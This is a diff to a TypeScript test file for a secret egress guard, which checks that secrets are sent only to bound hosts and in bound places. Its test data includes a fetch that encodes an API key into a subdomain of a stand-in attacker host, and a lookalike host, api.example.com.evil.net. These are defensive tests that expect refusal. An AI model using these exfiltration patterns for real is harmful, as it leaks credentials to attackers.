@@ -1,7 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import { createEgress } from '../../src/net/egress.js';
 import type { Resolver } from '../../src/net/resolve-target.js';
-import { createSecretEgressGuard, isDestination } from '../../src/secrets/secret-destinations.js';
+import { EgressError } from '../../src/errors/egress-errors.js';
+import {
+  checkPlacedSecrets,
+  createSecretEgressGuard,
+  isDestination,
+  type SecretBindings,
+} from '../../src/secrets/secret-destinations.js';
 
 const KEY = 'sk-live-Abc123Def456';
 const secrets = [{ name: 'API_KEY', value: KEY }];
@@ -104,5 +110,68 @@ describe('secret egress guard', () => {
       egress.fetch(`http://${KEY.toLowerCase()}.attacker.example/`, { inspect: guard }),
     ).rejects.toMatchObject({ code: 'secret_destination' });
     expect(lookups).toEqual([]);
+  });
+});
+
+describe("placed secrets (opaque values: the host knows each one's place)", () => {
+  const bindings: SecretBindings = {
+    destinations: { API_KEY: ['api.example.com'], HOOK: ['*.example.org:8443'], LOOSE: [] },
+    placements: { API_KEY: 'header Authorization' },
+    policy: 'bound',
+  };
+  const check = (url: string, ...placed: Array<[string, string]>) =>
+    checkPlacedSecrets(
+      placed.map(([name, place]) => ({ name, place })),
+      new URL(url),
+      bindings,
+    );
+
+  it('admits a secret in its place to one of its hosts, and any place where none is bound', () => {
+    expect(() =>
+      check('https://api.example.com/v1', ['API_KEY', 'header authorization']),
+    ).not.toThrow();
+    expect(() =>
+      check('https://a.b.example.org:8443/', ['HOOK', 'url'], ['HOOK', 'body']),
+    ).not.toThrow();
+    expect(() => check('https://elsewhere.net/')).not.toThrow();
+  });
+
+  it('refuses another place, naming the secret and the place its line admits', () => {
+    expect(() => check('https://api.example.com/v1', ['API_KEY', 'url'])).toThrow(
+      'request to api.example.com refused: it carries secret API_KEY in the url, which its # @secrets: line admits only in header Authorization',
+    );
+    expect(() => check('https://api.example.com/', ['API_KEY', 'header x-api-key'])).toThrow(
+      /in header x-api-key, which its # @secrets: line admits only in header Authorization/,
+    );
+  });
+
+  it('refuses another host or port, and a secret without destinations anywhere unless the policy is any', () => {
+    expect(() =>
+      check('https://api.example.com.evil.net/', ['API_KEY', 'header authorization']),
+    ).toThrow(
+      'request to api.example.com.evil.net refused: it carries secret API_KEY in header authorization, which may be sent only to api.example.com',
+    );
+    expect(() => check('https://a.example.org/', ['HOOK', 'body'])).toThrow(EgressError);
+    expect(() => check('https://example.org:8443/', ['HOOK', 'body'])).toThrow(
+      /only to \*\.example\.org:8443/,
+    );
+    expect(() => check('https://api.example.com/', ['LOOSE', 'body'])).toThrow(
+      /carries secret LOOSE in the body, which may be sent nowhere \(no "->" destinations/,
+    );
+    expect(() =>
+      checkPlacedSecrets([{ name: 'LOOSE', place: 'body' }], new URL('https://x.net/'), {
+        ...bindings,
+        policy: 'any',
+      }),
+    ).not.toThrow();
+  });
+
+  it('reads bindings as data: a secret named like an Object member is bound to nothing', () => {
+    expect(() => check('https://api.example.com/', ['constructor', 'url'])).toThrow(
+      /may be sent nowhere/,
+    );
+    expect(() => check('https://api.example.com/', ['__proto__', 'url'])).toThrow(
+      /may be sent nowhere/,
+    );
   });
 });
